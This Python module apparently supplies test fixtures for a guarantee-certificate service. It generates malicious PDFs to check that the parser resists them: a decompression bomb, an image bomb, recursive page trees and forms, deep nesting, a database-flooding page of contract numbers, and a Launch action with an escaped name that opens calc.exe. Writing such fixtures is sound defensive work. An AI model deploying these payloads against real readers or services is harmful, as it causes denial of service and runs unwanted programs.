"""PDFs that are no certificates at all, made to exhaust or to harm whoever reads them."""

import zlib

from esurety.domain.guarantee_contract_number import GuaranteeContractNumber


def _pdf_of(objects: dict[int, bytes]) -> bytes:
    """A PDF of hand-written objects; number 1 is its catalogue."""
    out, places = b"%PDF-1.7\n", {}
    for number, body in objects.items():
        places[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (max(objects) + 1)
    for number in range(1, max(objects) + 1):
        out += b"%010d 00000 n \n" % places.get(number, 0)
    return out + b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (max(objects) + 1, start)


def _stream(data: bytes, dictionary: bytes = b"") -> bytes:
    return b"<<%s/Length %d>>\nstream\n%s\nendstream" % (dictionary, len(data), data)


def endless_page_tree() -> bytes:
    """A tree of pages whose branch is its own root."""
    return _pdf_of({1: b"<</Type/Catalog/Pages 2 0 R>>", 2: b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 1000000000/Parent 2 0 R>>"})


def flate_bomb(*, gigabytes: int = 8) -> bytes:
    """A page's content that unpacks to many gigabytes: two layers of Flate, some kilobytes on the disk."""
    packer, block = zlib.compressobj(9), b" " * (1 << 24)
    first = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)
    again = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)  # the same after every full flush
    packed = zlib.compress(first + again * (gigabytes * 64 - 1) + packer.flush(), 9)
    return _pdf_of(
        {
            1: b"<</Type/Catalog/Pages 2 0 R>>",
            2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R>>",
            4: _stream(packed, b"/Filter[/FlateDecode/FlateDecode]"),
        }
    )


def picture_bomb() -> bytes:
    """A page that shows a picture of ten thousand million pixels."""
    picture = b"/Type/XObject/Subtype/Image/Width 100000/Height 100000/ColorSpace/DeviceGray/BitsPerComponent 8/Filter/FlateDecode"
    return _pdf_of(
        {
            1: b"<</Type/Catalog/Pages 2 0 R>>",
            2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</XObject<</I 5 0 R>>>>>>",
            4: _stream(b"q 595 0 0 842 0 0 cm /I Do Q"),
            5: _stream(zlib.compress(bytes(10_000_000), 9), picture),
        }
    )


def drawing_without_end() -> bytes:
    """A form that draws itself a thousand times, each of which draws another a thousand times, and so on."""
    objects = {
        1: b"<</Type/Catalog/Pages 2 0 R>>",
        2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</XObject<</F 5 0 R>>>>>>",
        4: _stream(b"/F Do"),
    }
    for number in range(5, 15):
        form = b"/Type/XObject/Subtype/Form/BBox[0 0 595 842]/Resources<</XObject<</F %d 0 R>>>>" % (number + 1)
        objects[number] = _stream(b"/F Do " * 1000, form)
    objects[15] = _stream(b"0 0 m 100 100 l S", b"/Type/XObject/Subtype/Form/BBox[0 0 595 842]")
    return _pdf_of(objects)


def many_numbers() -> bytes:
    """Five pages with four thousand well-formed 保証契約番号 each: looked up one by one, they would keep a database busy."""
    kids = b" ".join(b"%d 0 R" % (number * 2) for number in range(2, 7))
    objects = {1: b"<</Type/Catalog/Pages 2 0 R>>", 2: b"<</Type/Pages/Kids[%s]/Count 5>>" % kids}
    resources = b"<</Font<</F<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>>>"
    for page in range(5):
        lines = []
        for line in range(400):
            serials = (page * 4000 + line * 10 + at for at in range(10))
            words = " ".join(GuaranteeContractNumber.of(901, 2024, serial + 1).text for serial in serials)
            lines.append(b"(%s) Tj T*" % words.encode())
        objects[4 + page * 2] = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 5000 5000]/Contents %d 0 R/Resources%s>>" % (
            5 + page * 2,
            resources,
        )
        objects[5 + page * 2] = _stream(b"BT /F 4 Tf 6 TL 5 4990 Td " + b"\n".join(lines) + b" ET")
    return _pdf_of(objects)


def launching_script() -> bytes:
    """No certificate at all; it wants to start a program when it is opened. The word is spelt in escapes."""
    return _pdf_of(
        {
            1: b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/#4cau#6ech/F(calc.exe)>>>>",
            2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>",
        }
    )


def nested_without_end(depth: int = 200_000) -> bytes:
    """An object that is an array in an array in an array."""
    return _pdf_of({1: b"<</Type/Catalog/Pages 2 0 R/X " + b"[" * depth + b"]" * depth + b">>", 2: b"<</Type/Pages/Kids[]/Count 0>>"})
